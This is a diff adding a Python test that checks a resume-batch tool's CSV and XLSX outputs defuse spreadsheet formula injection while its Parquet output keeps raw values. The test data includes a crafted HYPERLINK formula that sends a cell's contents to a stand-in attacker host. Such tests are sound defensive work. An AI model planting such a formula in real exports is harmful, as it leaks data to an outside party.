@@ -253,3 +253,27 @@ def test_recycled_workers_finish_every_file_once(tmp_path, monkeypatch):
     assert sorted(r["file"] for r in rows) == sorted(map(str, files))
     assert all(r["status"] == "ok" for r in rows)
     assert len(started) == 3  # 2 + 2 + 1 files
+
+
+def test_spreadsheet_outputs_never_carry_a_formula(tmp_path):
+    """Crafted values (an applicant-tracking export's id, a headline) must not run as formulas when a
+    recruiter opens the table; Parquet keeps the values as they are."""
+    evil_id = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    text = (SAMPLES / "ai_engineer.txt").read_text("utf-8").splitlines()
+    text[1] = "+AI Engineer · NLP · MLOps on AWS"  # the headline, the current title when no job names one
+    text = [l.replace("AI Engineer | Copperleaf", "Copperleaf") for l in text]
+    ats = pd.DataFrame({"id": [evil_id, "@plain"], "text": ["\n".join(text),
+                                                            (SAMPLES / "junior_ml_engineer.txt").read_text("utf-8")]})
+    ats.to_csv(tmp_path / "ats.csv", index=False)
+    for ext in ("csv", "xlsx", "parquet"):
+        B.run_batch([tmp_path / "ats.csv"], tmp_path / f"t.{ext}", as_of=DAY, workers=0)
+    csv = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
+    cells = [v for row in csv.itertuples(index=False) for v in row]
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), cells
+    assert set(csv.file) == {"'" + evil_id, "'@plain"}
+    assert "'+AI Engineer · NLP · MLOps on AWS" in set(csv.current_title), set(csv.current_title)
+    from openpyxl import load_workbook
+
+    ws = load_workbook(tmp_path / "t.xlsx").active
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula cell
+    assert set(pd.read_parquet(tmp_path / "t.parquet").file) == {evil_id, "@plain"}
